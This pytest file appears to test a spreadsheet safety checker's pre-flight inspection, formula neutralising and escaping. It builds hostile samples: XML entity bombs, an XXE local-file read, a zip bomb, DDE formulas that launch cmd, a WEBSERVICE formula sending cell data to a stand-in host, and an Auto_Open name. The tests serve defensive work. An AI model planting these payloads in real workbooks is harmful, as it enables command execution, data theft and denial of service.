"""Pre-flight inspection and content risks, on hostile files made here with real libraries.

Every hostile file is built in the test (zipfile, openpyxl, raw XML) so that what it
contains is known independently of the code under test.  Helpers at the top are also
used by test_batch.py, test_damage.py and test_corpus.py.
"""

from __future__ import annotations

import contextlib
import hashlib
import re
import shutil
import tempfile
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from xlfund.batch import check_file
from xlfund.findings import CHECKS, Severity
from xlfund.outputs import html_text, neutralise_formula_text, neutralise_row, set_text_cell
from xlfund.safety import Limits, formula_risks, preflight

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT.parent / "shared" / "corpus" / "real-world"

# --------------------------------------------------------------------------- helpers


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@contextlib.contextmanager
def private_tempdir(base: Path) -> Iterator[Path]:
    """Make this process's temporary files go to a fresh folder, to see what is left in it
    (other programs share the system's temporary folder)."""
    folder = base / "private-tmp"
    folder.mkdir()
    saved = tempfile.tempdir
    tempfile.tempdir = str(folder)
    try:
        yield folder
    finally:
        tempfile.tempdir = saved


def leftovers(folder: Path) -> list[str]:
    """What is left in a private temporary folder, apart from multiprocessing's own
    folder (pymp-..., made when its fork server starts and removed when Python exits)."""
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("pymp-"))


def rewrite_zip(source: Path, target: Path, replace: dict[str, bytes] | None = None,
                add: dict[str, bytes] | None = None) -> Path:
    """Copy a zip package part by part, replacing or adding parts."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w",
                                                         zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = replace.get(info.filename, None)
            out.writestr(info.filename, src.read(info) if data is None else data)
        for name, data in add.items():
            out.writestr(name, data)
    return target


def part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def sparse_workbook(target: Path, far: str = "XFD1048576") -> Path:
    """A real openpyxl workbook with one value in A1 and one at ``far``."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Far"
    ws["A1"] = 1
    ws[far] = 2
    wb.save(target)
    return target


def codes(report_or_findings) -> list[str]:
    findings = getattr(report_or_findings, "findings", report_or_findings)
    return [f.code for f in findings]


def messages(report) -> str:
    return "\n".join(f"{f.message} {f.hint}" for f in report.findings)


# --------------------------------------------------------------------------- defusedxml

BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n')


def bomb_sheet(template: Path, prefix: bytes) -> bytes:
    """The Cover sheet of the template with ``prefix`` before its root element, and an
    entity used in a cell."""
    xml = part(template, "xl/worksheets/sheet1.xml")
    xml = xml.replace(b"<t>Learning Support Funding", b"<t>&lol3; Learning Support Funding", 1)
    return prefix + xml


def test_openpyxl_uses_defusedxml(shipped_template, tmp_path):
    import openpyxl.xml
    from defusedxml import DefusedXmlException

    assert openpyxl.xml.DEFUSEDXML is True
    bomb = rewrite_zip(shipped_template, tmp_path / "bomb.xlsx",
                       {"xl/worksheets/sheet1.xml": bomb_sheet(shipped_template,
                                                               BILLION_LAUGHS)})
    with pytest.raises(ValueError) as raised:  # openpyxl wraps the parser's error
        load_workbook(bomb)
    assert isinstance(raised.value.__cause__, DefusedXmlException)


def test_xml_bomb_is_refused_before_any_parser(shipped_template, tmp_path):
    bomb = rewrite_zip(shipped_template, tmp_path / "bomb.xlsx",
                       {"xl/worksheets/sheet1.xml": bomb_sheet(shipped_template,
                                                               BILLION_LAUGHS)})
    pre = preflight(bomb)
    assert not pre.readable and codes(pre.findings) == ["FILE015"]
    assert "xl/worksheets/sheet1.xml" in pre.findings[0].message
    report = check_file(bomb)
    assert report.status == "unreadable" and "FILE015" in codes(report)


def test_external_entity_is_never_read(shipped_template, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER-4711")
    xxe = (b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY lol3 SYSTEM "'
           + secret.as_uri().encode() + b'">]>\n')
    bad = rewrite_zip(shipped_template, tmp_path / "xxe.xlsx",
                      {"xl/worksheets/sheet1.xml": bomb_sheet(shipped_template, xxe)})
    report = check_file(bad)
    assert report.status == "unreadable" and "FILE015" in codes(report)
    assert "TOP-SECRET-MARKER" not in messages(report)


def test_dtd_behind_a_long_prologue_is_still_found(shipped_template, tmp_path):
    padding = b"<!--" + b" " * 20_000 + b"-->\n"
    bad = rewrite_zip(shipped_template, tmp_path / "padded.xlsx",
                      {"xl/worksheets/sheet1.xml": bomb_sheet(
                          shipped_template, b'<?xml version="1.0"?>\n' + padding
                          + BILLION_LAUGHS.split(b"\n", 1)[1])})
    assert codes(preflight(bad).findings) == ["FILE015"]


# --------------------------------------------------------------------------- zip limits


def test_zip_bomb_is_refused_from_the_directory(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf, zf.open(
            "xl/worksheets/sheet1.xml", "w") as fh:
        for _ in range(64):
            fh.write(b" " * (1024 * 1024))
    assert bomb.stat().st_size < 200_000  # 64 MB packed into a few hundred KB
    pre = preflight(bomb)
    assert not pre.readable and codes(pre.findings) == ["LIMIT003"]
    assert "xl/worksheets/sheet1.xml" in pre.findings[0].message
    assert check_file(bomb).status == "unreadable"


def test_total_unpacked_size_member_count_and_file_size_limits(shipped_template):
    unpacked = sum(i.file_size for i in zipfile.ZipFile(shipped_template).infolist())
    members = len(zipfile.ZipFile(shipped_template).infolist())
    size = shipped_template.stat().st_size
    cases = {
        "LIMIT002": Limits(max_uncompressed_bytes=unpacked - 1),
        "LIMIT004": Limits(max_members=members - 1),
        "LIMIT001": Limits(max_file_bytes=size - 1),
    }
    for code, limits in cases.items():
        report = check_file(shipped_template, limits)
        assert report.status == "unreadable" and codes(report) == [code], code
    # exactly at each limit is fine
    at_limit = Limits(max_uncompressed_bytes=unpacked, max_members=members, max_file_bytes=size)
    assert preflight(shipped_template, at_limit).readable


def test_limits_must_be_positive():
    with pytest.raises(ValueError):
        Limits(max_cells=0)
    with pytest.raises(ValueError):
        Limits(timeout_s=0)


# --------------------------------------------------------------------------- cells


def test_a_value_at_the_last_cell_is_refused_not_allocated(tmp_path):
    """python-calamine would try to allocate 17 billion cells and abort the process;
    this runs in the test process on purpose."""
    far = sparse_workbook(tmp_path / "far.xlsx")
    report = check_file(far)
    assert report.status == "unreadable"
    (limit,) = [f for f in report.findings if f.code == "LIMIT005"]
    assert limit.sheet == "Far" and "XFD1048576" in limit.message
    assert f"{1_048_576 * 16_384:,}" in limit.message


def set_dimension(template: Path, target: Path, ref: str, extra_cells: bytes = b"") -> Path:
    xml = part(template, "xl/worksheets/sheet1.xml")
    xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="' + ref.encode() + b'"/>',
                 xml, count=1)
    if extra_cells:
        xml = xml.replace(b"</sheetData>", extra_cells + b"</sheetData>", 1)
    return rewrite_zip(template, target, {"xl/worksheets/sheet1.xml": xml})


def test_claimed_dimension_alone_is_not_trusted(shipped_template, tmp_path):
    claims = set_dimension(shipped_template, tmp_path / "claims.xlsx", "A1:XFD1048576")
    assert b'ref="A1:XFD1048576"' in part(claims, "xl/worksheets/sheet1.xml")
    pre = preflight(claims)
    assert pre.readable and pre.sheets[0].claimed == "A1:XFD1048576"
    assert (pre.sheets[0].rows, pre.sheets[0].columns) == (20, 2)  # Cover is A1:B20
    assert check_file(claims).status == check_file(shipped_template).status


def test_a_dimension_claiming_less_does_not_hide_a_far_value(shipped_template, tmp_path):
    lying = set_dimension(shipped_template, tmp_path / "lying.xlsx", "A1",
                          b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    report = check_file(lying)
    assert report.status == "unreadable"
    assert [(f.code, f.sheet) for f in report.findings] == [("LIMIT005", "Cover")]


def test_empty_formatted_cells_far_away_are_not_counted(shipped_template, tmp_path):
    styled = set_dimension(shipped_template, tmp_path / "styled.xlsx", "A1:XFD1048576",
                           b'<row r="1048576"><c r="XFD1048576" s="1"/></row>')
    pre = preflight(styled)
    assert pre.readable, [f.message for f in pre.findings]


def test_max_cells_is_per_sheet_rows_times_columns_from_a1(shipped_template):
    wb = load_workbook(shipped_template, read_only=True)
    sizes = [(ws.title, ws.max_row * ws.max_column) for ws in wb.worksheets]
    wb.close()
    biggest_name, biggest = max(sizes, key=lambda s: s[1])
    report = check_file(shipped_template, Limits(max_cells=biggest - 1))
    over = [f.sheet for f in report.findings if f.code == "LIMIT005"]
    first_over = next(name for name, n in sizes if n > biggest - 1)
    assert over == [first_over] == [biggest_name]
    assert preflight(shipped_template, Limits(max_cells=biggest)).readable


# --------------------------------------------------------------------------- what it is


@pytest.mark.parametrize("name,content,code", [
    ("empty.xlsx", b"", "FILE001"),
    ("notes.xlsx", b"this is not a spreadsheet\n", "FILE002"),
    ("export.xls", b"URN,School name\n100001,Some school\n", "FILE002"),
    ("page.xls", b"<!DOCTYPE html><html><body><table></table></body></html>", "FILE002"),
    ("scan.xlsx", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "FILE002"),
    ("noise.xlsx", bytes(range(256)) * 8, "FILE002"),
    ("old.xls", b"\x09\x04\x06\x00\x00\x00\x10\x00" + b"\x00" * 64, "FILE009"),
    ("xml2003.xls", b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:'
                    b'office:spreadsheet"></Workbook>', "FILE009"),
])
def test_files_that_are_not_workbooks(tmp_path, name, content, code):
    path = tmp_path / name
    path.write_bytes(content)
    report = check_file(path)
    assert report.status == "unreadable"
    assert codes(report) == [code]
    assert name in report.findings[0].message and report.findings[0].hint


def test_zip_archives_that_are_not_workbooks(tmp_path):
    docx = tmp_path / "letter.xlsx"
    with zipfile.ZipFile(docx, "w") as zf:
        zf.writestr("[Content_Types].xml",
                    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                    '<Override PartName="/word/document.xml" ContentType="application/vnd.'
                    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                    '</Types>')
        zf.writestr("_rels/.rels",
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    'relationships"><Relationship Id="rId1" Type="http://schemas.'
                    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                    'Target="word/document.xml"/></Relationships>')
        zf.writestr("word/document.xml", "<document/>")
    plain = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(plain, "w") as zf:
        zf.writestr("holiday.jpg", b"\xff\xd8\xff")
    for path, words in ((docx, "Word document"), (plain, "zip archive")):
        report = check_file(path)
        assert report.status == "unreadable" and codes(report) == ["FILE002"]
        assert words in report.findings[0].message


def test_missing_file_and_folder_get_a_report(tmp_path):
    assert codes(check_file(tmp_path / "missing.xlsx")) == ["FILE011"]
    assert codes(check_file(tmp_path)) == ["FILE002"]


def test_duplicate_part_names_are_refused(shipped_template, tmp_path):
    twice = tmp_path / "twice.xlsx"
    shutil.copyfile(shipped_template, twice)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate: the point here
        with zipfile.ZipFile(twice, "a") as zf:
            zf.writestr("xl/worksheets/sheet3.xml", b"<worksheet/>")
    report = check_file(twice)
    assert report.status == "unreadable" and codes(report) == ["FILE013"]


def test_truncated_zip_is_damaged(shipped_template, tmp_path):
    data = shipped_template.read_bytes()
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(data[: len(data) // 2])
    report = check_file(cut)
    assert report.status == "unreadable" and codes(report) == ["FILE003"]


def test_contents_not_extension_decide_how_a_file_is_read(shipped_template, tmp_path):
    renamed = tmp_path / "learning_support_allocation.xls"
    shutil.copyfile(shipped_template, renamed)
    with private_tempdir(tmp_path) as scratch:
        report = check_file(renamed)
    assert leftovers(scratch) == []
    alone = check_file(shipped_template)
    assert report.findings[0].code == "FILE014"
    assert report.findings[0].severity == Severity.WARNING
    assert ".xlsx" in report.findings[0].message
    assert report.status == alone.status
    assert [f.as_dict() for f in report.findings[1:]] == [f.as_dict() for f in alone.findings]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["learning_support_allocation.xls",
                                                          "private-tmp"]


# --------------------------------------------------------------------------- content risks


def test_hidden_dde_web_and_auto_open_in_a_real_workbook(shipped_template, tmp_path):
    from openpyxl.workbook.defined_name import DefinedName

    path = tmp_path / "risky.xlsx"
    wb = load_workbook(shipped_template)
    wb["Timeline"].sheet_state = "hidden"
    wb["Retained"].sheet_state = "veryHidden"
    wb["Cover"]["D3"] = "=cmd|' /C calc'!A0"
    wb["Cover"]["D4"] = '=WEBSERVICE("https://example.invalid/?x="&B2)'
    wb["Cover"]["D5"] = '="a|b"&\'Odd|Name\'!A1'  # a | in text or a sheet name is not DDE
    wb.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Cover!$A$1")
    wb.save(path)
    report = check_file(path)
    found = {(f.code, f.sheet, f.cell) for f in report.findings if f.code.startswith("RISK")}
    assert found == {("RISK007", "Timeline", ""), ("RISK008", "Retained", ""),
                     ("RISK005", "Cover", "D3"), ("RISK011", "Cover", "D4"),
                     ("RISK003", "", "")}
    assert next(f for f in report.findings if f.code == "RISK003").severity == Severity.ERROR


def test_vba_project_and_dde_link_parts(shipped_template, tmp_path):
    rels = part(shipped_template, "xl/_rels/workbook.xml.rels")
    rels = rels.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.'
                        b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
                        b'Target="externalLinks/externalLink1.xml"/></Relationships>')
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')
    risky = rewrite_zip(shipped_template, tmp_path / "parts.xlsx",
                        {"xl/_rels/workbook.xml.rels": rels},
                        {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not run",
                         "xl/externalLinks/externalLink1.xml": link})
    risks = preflight(risky).risks
    assert sorted(codes(risks)) == ["RISK001", "RISK005"]
    assert "'cmd'" in next(f for f in risks if f.code == "RISK005").message


def test_clean_template_has_no_risks_and_is_valid(shipped_template):
    pre = preflight(shipped_template)
    assert pre.kind == "xlsx" and pre.readable and pre.findings == [] and pre.risks == []
    assert [s.name for s in pre.sheets] == load_workbook(shipped_template,
                                                         read_only=True).sheetnames
    report = check_file(shipped_template)
    assert report.status == "valid"
    assert [f for f in report.findings if f.severity != Severity.INFO] == []


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the shared real-world corpus is not here")
def test_excel4_macro_sheet_is_named():
    risks = preflight(CORPUS / "poi__64420.xlsm").risks
    assert [(f.code, f.sheet) for f in risks] == [("RISK002", "Macro Sheet")]


def test_formula_risks_ignore_pipes_in_text_and_sheet_names():
    found = formula_risks({"S": {"A1": '="x|y"', "A2": "='My|Sheet'!B2+1",
                                 "A3": "=DDE|'topic'!R1C1", "A4": "=image(B1)",
                                 "A5": "=SUM(IMAGES!A1)"}})
    assert [(f.code, f.cell) for f in found] == [("RISK005", "A3"), ("RISK011", "A4")]


# --------------------------------------------------------------------------- outputs


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+44 1603", "'+44 1603"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"), ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("\uff1d1", "'\uff1d1"),
    ("Aylsham High", "Aylsham High"), ("", ""), (-5, -5), (None, None), (1.5, 1.5),
])
def test_neutralise_formula_text(value, expected):
    assert neutralise_formula_text(value) == expected
    assert neutralise_row([value]) == [expected]


def test_text_cell_never_becomes_a_formula(tmp_path):
    import python_calamine
    from openpyxl import Workbook

    path = tmp_path / "out.xlsx"
    wb = Workbook()
    set_text_cell(wb.active["A1"], '=HYPERLINK("http://x.invalid","click")')
    set_text_cell(wb.active["A2"], "plain")
    set_text_cell(wb.active["A3"], 42)
    wb.save(path)
    sheet_xml = part(path, "xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    values = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0)
    assert values.to_python() == [['=HYPERLINK("http://x.invalid","click")'], ["plain"], [42]]
    assert load_workbook(path)["Sheet"]["A1"].data_type == "s"


def test_html_text_escapes_markup():
    assert html_text('<script>alert("x")</script>&\'') == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;&#x27;")
    assert html_text(None) == ""


# --------------------------------------------------------------------------- registry, docs


def test_every_code_used_is_registered_and_documented():
    sources = (ROOT / "xlfund" / "safety.py").read_text() + (
        ROOT / "xlfund" / "batch.py").read_text()
    used = set(re.findall(r'"((?:FILE|LIMIT|RISK)\d{3})"', sources))
    assert used and used <= set(CHECKS)
    for code in used:
        check = CHECKS[code]
        assert check.title and check.why and check.fix
    from xlfund.checks_doc import CHECK_MODULES

    assert "xlfund.safety" in CHECK_MODULES


def test_security_doc_states_every_limit_and_its_default():
    from dataclasses import fields

    doc = (ROOT / "docs" / "security.md").read_text()
    defaults = Limits()
    shown = {"max_file_bytes": "100 MB", "max_uncompressed_bytes": "512 MB",
             "max_ratio": "200", "max_members": "10,000", "max_cells": "20,000,000",
             "timeout_s": "120 s", "max_memory_mb": "2048 MB"}
    assert {f.name for f in fields(Limits)} == set(shown)
    assert defaults.max_file_bytes == 100 * 2**20
    assert defaults.max_uncompressed_bytes == 512 * 2**20
    assert (defaults.max_ratio, defaults.max_members, defaults.max_cells) == (200, 10_000,
                                                                              20_000_000)
    assert (defaults.timeout_s, defaults.max_memory_mb) == (120, 2048)
    for name, text in shown.items():
        row = next(line for line in doc.splitlines() if f"`{name}`" in line)
        assert text in row, name
    for option in ("--max-cells", "--timeout", "--max-memory"):
        assert option in doc


def test_allocate_never_turns_input_text_into_formulas(shipped_template, tmp_path):
    from xlfund.jobs import allocate_file

    def sheets_with_the_formula(path: Path) -> list[str]:
        with zipfile.ZipFile(path) as zf:
            return [name for name in zf.namelist() if name.startswith("xl/worksheets/")
                    and re.search(rb"<f>[^<]*evil\.invalid", zf.read(name))]

    source, out = tmp_path / "named.xlsx", tmp_path / "allocated.xlsx"
    wb = load_workbook(shipped_template)
    ws = wb["Clusters"]
    column = next(c.column for c in ws[4] if c.value == "Cluster name")
    set_text_cell(ws.cell(5, column), '=HYPERLINK("http://evil.invalid","Aylsham")')
    wb.save(source)
    assert sheets_with_the_formula(source) == []  # text in the input, as Excel keeps '=...
    allocate_file(source, out, recalc=False)
    assert sheets_with_the_formula(out) == []
